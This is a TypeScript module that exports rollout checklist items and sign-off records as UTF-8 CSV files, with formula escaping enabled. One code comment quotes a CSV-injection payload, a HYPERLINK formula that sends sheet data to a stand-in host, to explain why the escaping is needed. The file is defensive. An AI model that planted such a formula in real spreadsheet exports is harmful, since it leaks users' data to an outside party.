import { stringify } from "csv-stringify/sync";
import type { RolloutSnapshot } from "../dal/snapshot";
import { evaluateQuorum } from "../domain/sign-off";

// CSV for spreadsheets: a header row, one row per record, ISO dates in UTC. A byte-order
// mark first, so spreadsheet programs read the plan's accents as UTF-8.
//
// Cells carry people's own text (evidence, comments, names, the plan's wording), and a
// spreadsheet runs a cell that starts with =, +, -, @, TAB or CR as a formula
// (`=HYPERLINK("http://evil.example/?x="&A1,"x")` sends the sheet's data away). Every
// such cell is prefixed with a single quote, as OWASP advises (csv-stringify's
// `escape_formulas`, which also covers the full-width variants some programs normalize).

const OPTIONS = { header: true, escape_formulas: true } as const;

const BOM = "\uFEFF";
const iso = (d: Date | null) => (d ? d.toISOString() : "");

const ITEM_COLUMNS = ["list", "phase", "text", "owner_role", "assignee", "due", "optional", "state", "changed_by", "changed_at", "evidence", "not_applicable_reason"];
const SIGN_OFF_COLUMNS = ["phase", "kind", "title", "reference", "amount", "currency", "required_roles", "approvals", "status", "due", "decisions"];

export function itemsCsv(items: RolloutSnapshot["items"]): string {
  return (
    BOM +
    stringify(
      items.map((i) => ({
        list: i.list,
        phase: i.phase ? `${i.phase.position} ${i.phase.name}` : "",
        text: i.text,
        owner_role: i.ownerRole ?? "",
        assignee: i.assignee?.name ?? "",
        due: iso(i.dueAt),
        optional: i.optional ? "yes" : "no",
        state: i.state,
        changed_by: i.stateChangedBy?.name ?? "",
        changed_at: iso(i.stateChangedAt),
        evidence: i.evidence ?? "",
        not_applicable_reason: i.notApplicableReason ?? "",
      })),
      { ...OPTIONS, columns: ITEM_COLUMNS },
    )
  );
}

export function signOffsCsv(signOffs: RolloutSnapshot["signOffs"]): string {
  return (
    BOM +
    stringify(
      signOffs.map((s) => {
        const quorum = evaluateQuorum(s, s.decisions);
        const standing = s.decisions.filter((d) => d.withdrawnAt === null);
        return {
          phase: s.phase ? `${s.phase.position} ${s.phase.name}` : "",
          kind: s.kind,
          title: s.title,
          reference: s.reference ?? "",
          amount: s.amountCents === null ? "" : (Number(s.amountCents) / 100).toFixed(2),
          currency: s.currency ?? "",
          required_roles: s.requiredRoles.join(" "),
          approvals: `${quorum.approvals}/${quorum.needed}`,
          status: s.status,
          due: iso(s.dueAt),
          decisions: standing.map((d) => `${d.value} by ${d.user.name} (${d.role}) at ${d.decidedAt.toISOString()}${d.comment ? `: ${d.comment}` : ""}`).join(" | "),
        };
      }),
      { ...OPTIONS, columns: SIGN_OFF_COLUMNS },
    )
  );
}
